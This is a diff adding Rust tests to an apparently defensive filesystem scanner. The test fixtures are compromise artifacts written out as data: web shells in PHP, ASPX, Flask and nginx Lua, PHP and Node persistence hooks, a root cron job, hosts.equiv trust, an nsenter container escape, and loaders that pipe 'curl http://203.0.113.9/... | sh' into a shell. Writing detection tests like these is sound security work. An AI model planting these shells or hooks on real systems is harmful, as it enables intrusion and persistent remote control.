@@ -227,6 +227,87 @@ fn places_that_are_seldom_looked_at() {
 }
 
 #[test]
+fn settings_and_pages_of_other_programs_are_read() {
+    let elf = elf();
+    let cases: &[Case<'_>] = &[
+        (
+            "FS-011",
+            "/srv/app/run.py",
+            0o644,
+            b"from flask import request\nimport os\nos.popen(request.args['c'])\n",
+            Severity::High,
+        ),
+        ("FS-011", "/var/www/html/a.aspx", 0o644, b"<%eval(Request.Item[\"p\"],\"unsafe\");%>", Severity::High),
+        (
+            "FS-011",
+            "/etc/nginx/conf.d/l.conf",
+            0o644,
+            b"content_by_lua_block { ngx.say(io.popen(ngx.var.arg_c):read('*a')) }\n",
+            Severity::High,
+        ),
+        // A script that has no name of one, and is where no pages are.
+        (
+            "FS-011",
+            "/var/lib/php/sessions/sess_a",
+            0o600,
+            b"<?php $f = $_COOKIE['a']; eval(gzinflate($f));",
+            Severity::High,
+        ),
+        (
+            "FS-035",
+            "/etc/php/8.4/fpm/conf.d/9.ini",
+            0o644,
+            b"auto_prepend_file=/var/lib/php/sessions/sess_a\n",
+            Severity::High,
+        ),
+        ("FS-035", "/etc/php/8.4/cli/conf.d/15-j.ini", 0o644, b"extension=json_core.so\n", Severity::Medium),
+        (
+            "FS-035",
+            "/etc/nginx/sites-available/default",
+            0o644,
+            b"location /h { proxy_pass http://unix:/run/.x.sock; }\n",
+            Severity::High,
+        ),
+        ("FS-035", "/root/.npmrc", 0o644, b"script-shell=/usr/share/x/update\n", Severity::High),
+        ("FS-035", "/etc/hosts.equiv", 0o644, b"+ +\n", Severity::High),
+        ("FS-035", "/etc/environment", 0o644, b"NODE_OPTIONS=--require=/usr/lib/node/hook.js\n", Severity::High),
+        ("FS-036", "/root/.bash_history", 0o600, b"nsenter -t 1 -m sh\nmount /dev/vda1 /mnt\n", Severity::High),
+        (
+            "FS-004",
+            "/var/spool/cron/crontabs/root",
+            0o600,
+            b"@reboot /usr/bin/python3 /usr/lib/python3/u.py\n",
+            Severity::High,
+        ),
+        ("FS-002", "/etc/group", 0o644, b"root:x:0:\nsudo:x:27:games\n", Severity::High),
+        (
+            "FS-026",
+            "/var/www/html/s.txt",
+            0o644,
+            b"root:*:20000:0:99999:7:::\na:$6$x$y:20000:0:99999:7:::\nb:*:20000:0:99999:7:::\n",
+            Severity::High,
+        ),
+    ];
+    let others: [(&str, u32, &[u8]); 4] = [
+        ("/usr/lib/php/20240924/json_core.so", 0o644, &elf),
+        ("/usr/share/x/update", 0o755, b"#!/bin/sh\ncurl -s http://203.0.113.9/u | sh\n"),
+        ("/usr/lib/node/hook.js", 0o644, b"require('child_process').exec('curl -s http://203.0.113.9/n|sh')\n"),
+        ("/usr/lib/python3/u.py", 0o644, b"import os;exec(__import__('base64').b64decode('eJw='))\n"),
+    ];
+    finds(cases, &others);
+}
+
+#[test]
+fn what_only_quotes_a_web_shell_is_quiet() {
+    let findings = with_changes(&[
+        ("/tmp/waf/audit.log", 0o644, b"blocked: <?php @eval($_POST[\"x\"]); ?> from 192.0.2.4\n"),
+        ("/tmp/test_security.py", 0o644, b"PAYLOADS = [\"<?php system($_GET[0]); ?>\"]\n"),
+        ("/opt/rules/shells.yar", 0o644, b"rule x { strings: $a = \"eval(base64_decode($_POST\" condition: $a }\n"),
+    ]);
+    assert!(findings.iter().all(|finding| finding.rule.id != "FS-011"), "{findings:#?}");
+}
+
+#[test]
 fn files_that_packages_and_entry_points_write_are_quiet() {
     let elf = elf();
     let list = b"/.\n/usr\n/usr/bin\n/usr/bin/sudo\n/usr/bin/curl\n/lib/x86_64-linux-gnu/libcurl.so.4\n/usr/sbin/sshd\n/etc/cron.daily/dpkg\n\
